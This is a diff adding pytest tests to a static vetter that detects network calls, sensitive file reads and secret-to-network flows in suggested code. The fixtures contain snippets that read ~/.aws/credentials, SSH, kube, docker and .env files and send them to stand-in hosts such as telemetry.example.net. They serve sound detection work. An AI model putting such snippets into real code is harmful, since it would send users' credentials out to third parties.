@@ -4,6 +4,7 @@ in the places people read it first (vet's text and JSON, the held/blocked diagno
 
 from __future__ import annotations
 
+import ast
 import textwrap
 
 import pytest
@@ -180,7 +181,7 @@ def test_summary_puts_the_strongest_first_and_stays_short():
     text = summary(capabilities(scan(tree), tree))
     assert text is not None
     assert text == (
-        "adds: network → d.example.net (sends ~/.netrc); reads ~/.netrc; runs git; "
+        "adds: network → d.example.net (POST, sends ~/.netrc); reads ~/.netrc; runs git; "
         "network → a.example.com, b.example.com, c.example.com"
     )
     assert summary(capabilities(scan(tree), tree), limit=2).endswith("; +2 more")
@@ -262,7 +263,8 @@ def test_vet_result_carries_the_summary(static_vetter):
     result = static_vetter.vet(Suggestion(EXFIL, document=DOCUMENT, line=DOCUMENT.count("\n"), path="m.py"))
     assert result.verdict is Verdict.BLOCK
     assert (
-        result.summary == "adds: network → collector.example.net (sends ~/.aws/credentials); reads ~/.aws/credentials"
+        result.summary
+        == "adds: network → collector.example.net (POST, sends ~/.aws/credentials); reads ~/.aws/credentials"
     )
     leak = next(f for f in result.findings if f.rule == "capability.secret-to-network")
     assert leak.line == DOCUMENT.count("\n") + 2 and result.finding_decision(leak) == "block"
@@ -331,3 +333,153 @@ def test_the_projects_own_env_file_is_a_secret_source_not_a_sensitive_read():
     )
     assert leak["secret-to-network"] == {("backup.example.io", ".env")}
     assert caps("open('/srv/other/.env').read()\n")["sensitive-read"] == {("/srv/other/.env", "")}
+
+
+# -- a secret file's name kept out of sight (review 30, item 2) --------------------------------
+
+
+@pytest.mark.parametrize(
+    "setup, read",
+    [
+        ('FILES = ["credentials"]', 'extra = (pathlib.Path.home() / ".aws" / FILES[0]).read_text()'),
+        ('FILES = ("config", "credentials")', 'extra = (pathlib.Path.home() / ".aws" / FILES[-1]).read_text()'),
+        ('WHERE = {"aws": ".aws/credentials"}', 'extra = (pathlib.Path.home() / WHERE["aws"]).read_text()'),
+        ('FILES = ["credentials"]', 'extra = open(os.path.join(os.path.expanduser("~"), ".aws", FILES[0])).read()'),
+        (
+            'PARTS = ["credentials", ".aws"]',
+            "name = PARTS[1]\n    extra = (pathlib.Path.home() / name / PARTS[0]).read_text()",
+        ),
+        ('CANDIDATES = [pathlib.Path.home() / ".aws" / "credentials"]', "extra = CANDIDATES[0].read_text()"),
+    ],
+    ids=["list", "tuple-negative", "dict", "os-path-join", "folder-and-file-from-table", "table-of-paths"],
+)
+def test_a_secret_file_named_through_a_table_of_literals_is_read(setup, read):
+    found = caps(
+        f"""
+import http.client, json, os, pathlib
+{setup}
+def upload_usage(stats):
+    {read}
+    conn = http.client.HTTPSConnection("telemetry.example.net", timeout=3)
+    conn.request("POST", "/v1/usage", body=json.dumps({{"stats": stats, "env": extra}}))
+"""
+    )
+    assert found["secret-to-network"] == {("telemetry.example.net", "~/.aws/credentials")}
+    assert ("~/.aws/credentials", "") in found["sensitive-read"]
+
+
+@pytest.mark.parametrize(
+    "read, via",
+    [
+        ('(Path.home() / ".aws" / name).read_text()', "~/.aws/…"),  # a parameter
+        ('open(os.path.expanduser(f"~/.docker/{name}.json")).read()', "~/.docker/….json"),
+        ('(Path.home() / ".kube" / name).read_bytes()', "~/.kube/…"),
+        ('open(os.path.join(os.environ["HOME"], ".ssh", name)).read()', "~/.ssh/…"),
+    ],
+)
+def test_a_hidden_file_name_in_a_secret_folder_is_a_secret_read(read, via):
+    found = caps(
+        f"""
+import os, requests
+from pathlib import Path
+def sync(name):
+    blob = {read}
+    requests.post("https://sync.example.org/u", data=blob, timeout=5)
+"""
+    )
+    assert found["secret-to-network"] == {("sync.example.org", via)}
+
+
+def test_a_hidden_file_name_in_an_ordinary_folder_is_no_secret_read():
+    found = caps(
+        """
+import requests
+from pathlib import Path
+FILES = ["settings.toml"]
+def upload(name):
+    a = (Path.home() / ".config" / "myapp" / FILES[0]).read_text()
+    b = (Path.home() / ".cache" / "myapp" / name).read_text()
+    requests.post("https://api.myapp.example/v1/sync", data=a + b, timeout=5)
+"""
+    )
+    assert "secret-to-network" not in found and "sensitive-read" not in found
+    assert found["network"] == {("api.myapp.example", "")}
+
+
+def test_literal_tables_resolve_only_what_is_written():
+    """`Names.item`: a literal index into a list, tuple or dict written out; nothing else."""
+    tree = parse(
+        textwrap.dedent(
+            """
+            A = ["x", "y"]
+            B = A
+            C = {"k": "v", "k2": "w"}
+            D = [*A, "z"]
+            E = {**C, "k3": "u"}
+            F = []
+            F.append("late")
+            """
+        )
+    )
+    names = scan(tree).names
+
+    def item(expr: str) -> str | None:
+        return names.string(ast.parse(expr, mode="eval").body)
+
+    assert (item("A[0]"), item("A[-1]"), item("B[1]"), item('C["k2"]')) == ("x", "y", "y", "w")
+    assert item("A[2]") is None and item('C["nope"]') is None and item("A[i]") is None
+    assert item("D[2]") is None and item('E["k3"]') is None  # unpacked into: positions not known
+    assert item("F[0]") is None  # filled at run time
+    assert item("A[0:1]") is None  # a slice of a list is no string
+
+
+# -- the network target is the host, the HTTP method is shown as such (review 30, item 8a) ------
+
+
+def test_http_client_request_names_the_connections_host_and_its_method():
+    tree = parse(
+        textwrap.dedent(
+            """
+            import http.client, requests, httpx
+            s = requests.Session()
+            def f(data):
+                conn = http.client.HTTPSConnection("telemetry.example.net", timeout=3)
+                conn.request("GET", "/v1?e=" + open(".env").read())
+                c2 = http.client.HTTPConnection(host="plain.example", port=80)
+                c2.putrequest("PUT", "/z")
+                requests.request("POST", "https://a.example/x", data=data)
+                s.request(method="patch", url="https://b.example/")
+                httpx.stream("GET", "https://c.example/")
+                requests.delete("https://d.example/")
+            """
+        )
+    )
+    found = {(c.kind, c.target, c.via, c.method) for c in capabilities(scan(tree), tree)}
+    assert found == {
+        ("network", "telemetry.example.net", "", ""),
+        ("secret-to-network", "telemetry.example.net", ".env", "GET"),
+        ("network", "plain.example", "", "PUT"),
+        ("network", "a.example", "", "POST"),
+        ("network", "b.example", "", "PATCH"),
+        ("network", "c.example", "", "GET"),
+        ("network", "d.example", "", "DELETE"),
+    }
+    assert not any(c.target in ("GET", "POST", "PUT") for c in capabilities(scan(tree), tree))
+
+
+def test_the_summary_and_finding_show_the_host_and_the_method(static_vetter):
+    code = textwrap.dedent(
+        """
+        import http.client, json
+        def upload_usage(stats):
+            conn = http.client.HTTPSConnection("telemetry.example.net", timeout=3)
+            conn.request("POST", "/v1/usage", body=json.dumps({"stats": stats}))
+            return conn.getresponse().status
+        """
+    ).lstrip()
+    result = static_vetter.vet(Suggestion(code, path="m.py"))
+    # Plain destinations are listed by host in the summary (it read "telemetry.example.net, POST").
+    assert result.summary == "adds: network → telemetry.example.net"
+    [finding] = [f for f in result.findings if f.rule == "capability.network"]
+    assert (finding.detail("target"), finding.detail("method")) == ("telemetry.example.net", "POST")
+    assert finding.message == "adds: network → telemetry.example.net (POST)"
